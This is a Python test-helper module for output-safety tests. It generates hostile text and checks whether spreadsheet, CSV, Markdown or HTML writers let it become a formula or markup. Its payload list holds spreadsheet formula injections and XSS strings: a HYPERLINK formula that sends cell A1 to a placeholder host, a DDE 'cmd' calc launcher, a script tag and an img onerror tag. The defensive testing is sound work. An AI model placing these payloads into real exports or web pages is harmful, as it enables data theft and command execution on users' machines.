"""Hostile text for the output-safety tests, and checks of what a writer wrote.

Each check reads a written file as its consumer does (openpyxl for a workbook, the csv module
for CSV, a CommonMark parser and Python's HTML parser for Markdown and HTML) and says whether any
text became a formula or markup.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from hypothesis import strategies as st
from markdown_it import MarkdownIt

from soeplan.safety import FORMULA_TRIGGERS, is_number_text

HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click")'

#: What a county could type to make a spreadsheet or a viewer act on it.
PAYLOADS = (
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "#N/A",
    "#DIV/0!",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "**bold** _it_ [link](http://x.invalid) ![i](http://x.invalid/i.png)",
    "# heading",
    "- item",
    "1. item",
    "| a | b |",
    "`code` ~~gone~~",
    "```\nfence",
    "    indented code",
    "&lt;b&gt; &amp;",
    "a\x01b\x1b[31mc",
    "---",
)

_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
#: Any text, a payload, or a payload with text around it.
TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(_CHARS, max_size=30),
    st.builds(lambda a, b, c: a + b + c, st.text(_CHARS, max_size=5), st.sampled_from(PAYLOADS),
              st.text(_CHARS, max_size=5)),
)  # fmt: skip
#: Text with something visible in it (so that it shows in every writer).
SHOWN = TEXT.filter(lambda s: s.strip() != "")


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook at ``path`` that is a formula or an error value."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}: {c.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type in ("f", "e")
    ]


def text_cells(path: Path) -> dict[str, Any]:
    """Every string cell of the workbook, ``sheet!A1`` to its value."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return {
        f"{ws.title}!{c.coordinate}": c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "s" and c.value is not None
    }


def unsafe_csv_fields(text: str) -> list[str]:
    """The fields of a CSV text that a spreadsheet would read as a formula."""
    return [
        field
        for row in csv.reader(io.StringIO(text, newline=""))
        for field in row
        if field.startswith(FORMULA_TRIGGERS) and not is_number_text(field)
    ]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attrs: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attrs |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def html_tags(html: str) -> _Tags:
    """The start tags (with counts), attribute names and text of an HTML text."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def markdown_html(text: str) -> str:
    """Markdown as a CommonMark viewer (with GitHub's tables and strikethrough) renders it."""
    return _MD.render(text)
